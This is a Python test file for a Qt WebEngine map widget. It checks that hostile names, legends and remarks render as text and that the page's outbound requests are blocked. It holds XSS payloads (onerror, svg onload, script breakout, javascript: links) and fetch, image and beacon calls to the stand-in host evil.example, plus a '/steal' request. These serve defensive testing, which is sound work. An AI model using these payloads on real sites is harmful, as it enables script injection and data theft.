"""Map pages with hostile text, and a page that tries to reach another host.

``tests/widgets/test_map.py`` already shows one hostile name as text in the tooltip,
legend and flag list, and the guard blocking a second local server from a bare page. This
extends it: many payload shapes (tag injection, closing the script element, breaking out of
an attribute, template and URL tricks, bidi overrides) in every text the map shows (the
customers' names, the legend, the visit's customer and the flags' remarks), read back from
the DOM as text; no element or ``on…`` attribute of theirs in the document; and with a real
tile server configured, the page's only requests go to it, while ``fetch``, an image and a
beacon to ``http://evil.example/`` fail, are seen by the page's Content-Security-Policy, and
from a page without that policy on the same profile are blocked and recorded by the
:class:`~widgets.map_view.RequestGuard`."""

from __future__ import annotations

from typing import Any

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWebEngineCore import QWebEnginePage

from tests.widgets._scenes import HOME, make_scene
from widgets.map_scene import LegendEntry, MapPoint
from widgets.map_tiles import tile_provider

OFFLINE = tile_provider("none")
PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>window.__pwned=1</script>",
    '" onmouseover="window.__pwned=2" x="',
    "'><svg onload=window.__pwned=3>",
    '<a href="javascript:window.__pwned=4">点我</a>',
    '{{constructor.constructor("window.__pwned=5")()}} ${window.__pwned=6}',
    "<iframe src=http://evil.example/></iframe><style>*{display:none}</style>",
    "\u202e<b>石家庄</b>\u202c & &amp; &lt;",
)
#: elements a payload would create if it reached the DOM as HTML (the page has none of its own;
#: its scripts are counted separately)
_INJECTED = "img, svg, iframe, style:not(head style), a[href^='javascript'], b"
_ON_ATTRIBUTES = (
    "[...document.querySelectorAll('*')]"
    ".filter(el => [...el.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length"
)
_RECORD_CSP = (
    "window.__csp = []; document.addEventListener('securitypolicyviolation', "
    "e => window.__csp.push(e.blockedURI || e.violatedDirective))"
)


def _drawn(view: Any, qtbot: Any, what: str) -> None:
    with qtbot.waitSignal(view.drawn, timeout=20_000, check_params_cb=lambda w, _n: w == what):
        pass


def _wait_js(qtbot: Any, js: Any, view: Any, expression: str) -> Any:
    box: list[Any] = []

    def ready() -> bool:
        value = js(view, expression)
        if value is None:
            return False
        box.append(value)
        return True

    qtbot.waitUntil(ready, timeout=20_000)
    return box[-1]


def test_hostile_names_legends_and_remarks_render_as_text(make_panel: Any, qtbot: Any, js: Any) -> None:
    panel = make_panel(OFFLINE)
    view = panel.map
    scripts_before = js(view, "document.querySelectorAll('script').length")
    view.set_points(
        "customers",
        [
            MapPoint(f"C{i}", HOME[0] + i * 0.001, HOME[1] + i * 0.001, "#d7191c", text)
            for i, text in enumerate(PAYLOADS)
        ],
    )
    view.set_legend([LegendEntry(text, "#d7191c") for text in PAYLOADS], PAYLOADS[1])
    _drawn(view, qtbot, "points:customers")
    for i, text in enumerate(PAYLOADS):
        assert js(view, f"LS.hoverPoint('customers', 'C{i}')")
        assert js(view, "document.querySelector('.ls-tip').textContent") == text, text
    rows = js(view, "[...document.querySelectorAll('.ls-legend-row')].map(r => r.textContent.trim())")
    assert [row.strip() for row in rows] == [text.strip() for text in PAYLOADS]
    assert PAYLOADS[1] in js(view, "document.querySelector('.ls-legend').textContent")

    for text in PAYLOADS[:4]:  # the visit's customer and the flags' remarks
        panel.set_scene(make_scene(50, customer_name=text))
        _drawn(view, qtbot, "scene")
        assert js(view, "LS.clickElement('customer', 'mouseover')")
        assert text in js(view, "document.querySelector('.ls-tip').textContent")
        assert js(view, "LS.clickElement('photo:103', 'mouseover')")  # its remark is hostile too
        assert "window.__pwned" in js(view, "document.querySelector('.ls-tip').textContent")

    assert js(view, f'document.querySelectorAll("{_INJECTED}").length') == 0
    assert js(view, "document.querySelectorAll('script').length") == scripts_before
    assert js(view, _ON_ATTRIBUTES) == 0
    assert js(view, "typeof window.__pwned") == "undefined"
    # and nothing was even attempted: the page made no request, the guard blocked none
    assert js(view, "performance.getEntriesByType('resource').length") == 0
    assert view.guard.blocked == []


def test_the_page_reaches_only_the_tile_server(
    make_map: Any, qtbot: Any, js: Any, tile_server: Any, other_server: Any
) -> None:
    provider = tile_provider("custom", custom_url=tile_server.origin + "/{z}/{x}/{y}.png")
    view = make_map(provider)
    qtbot.waitUntil(lambda: len(tile_server.requests) > 0, timeout=20_000)
    view.run_js(_RECORD_CSP)
    view.set_points("customers", [MapPoint("C1", *HOME, "#d7191c", PAYLOADS[0])])
    _drawn(view, qtbot, "points:customers")

    view.run_js(
        "window.__tries = {};"
        "fetch('http://evil.example/').then(() => window.__tries.fetch = 'reached',"
        " e => window.__tries.fetch = 'failed: ' + e.name);"
        "const img = new Image(); img.onload = () => window.__tries.img = 'reached';"
        " img.onerror = () => window.__tries.img = 'failed'; img.src = 'http://evil.example/x.png';"
        f"fetch('{other_server.origin}/steal').then(() => window.__tries.local = 'reached',"
        " e => window.__tries.local = 'failed: ' + e.name);"
        "window.__tries.beacon = String(navigator.sendBeacon('http://evil.example/b', 'x'));"
    )
    tries = _wait_js(
        qtbot,
        js,
        view,
        "(window.__tries && window.__tries.fetch && window.__tries.img && window.__tries.local)"
        " ? window.__tries : null",
    )
    assert tries["fetch"].startswith("failed")
    assert tries["img"] == "failed"
    assert tries["local"].startswith("failed")
    violations = _wait_js(qtbot, js, view, "window.__csp.length >= 3 ? window.__csp : null")
    assert any("evil.example" in v for v in violations), violations
    # the page listed requests to the tile server only, and the refused attempts: each of
    # those is one its policy reported blocking (evil.example has no address here anyway)
    names = js(view, "performance.getEntriesByType('resource').map(e => e.name)")
    elsewhere = {name for name in names if not name.startswith(tile_server.origin + "/")}
    assert any(name.startswith(tile_server.origin + "/") for name in names)
    assert elsewhere <= set(violations), (elsewhere, violations)
    assert other_server.requests == []
    assert all(path.endswith(".png") for path in tile_server.requests)


def test_without_the_page_policy_the_guard_blocks_and_records_another_host(
    make_map: Any, qtbot: Any, tile_server: Any
) -> None:
    """The interceptor on its own: a page with no Content-Security-Policy on the map's
    profile asks for http://evil.example/ as a fetch, an image and a frame."""
    provider = tile_provider("custom", custom_url=tile_server.origin + "/{z}/{x}/{y}.png")
    view = make_map(provider)
    bare = QWebEnginePage(view.profile)
    try:
        bare.setHtml(
            "<img src='http://evil.example/x.png'><iframe src='http://evil.example/frame'></iframe>"
            "<script>fetch('http://evil.example/api').catch(() => 0)</script>",
            QUrl("about:blank"),
        )
        wanted = ("http://evil.example/x.png", "http://evil.example/frame", "http://evil.example/api")
        qtbot.waitUntil(lambda: all(url in view.guard.blocked for url in wanted), timeout=20_000)
    finally:
        with qtbot.waitSignal(bare.destroyed, timeout=5_000):
            bare.deleteLater()


@pytest.mark.parametrize("text", PAYLOADS)
def test_each_payload_alone_as_a_tooltip(make_map: Any, qtbot: Any, js: Any, text: str) -> None:
    view = make_map(OFFLINE)
    view.set_points("inspections", [MapPoint(7, *HOME, "#1a9641", text, kind="inspection")])
    _drawn(view, qtbot, "points:inspections")
    assert js(view, "LS.hoverPoint('inspections', 7)")
    assert js(view, "document.querySelector('.ls-tip').textContent") == text
    assert js(view, _ON_ATTRIBUTES) == 0
    assert js(view, "typeof window.__pwned") == "undefined"
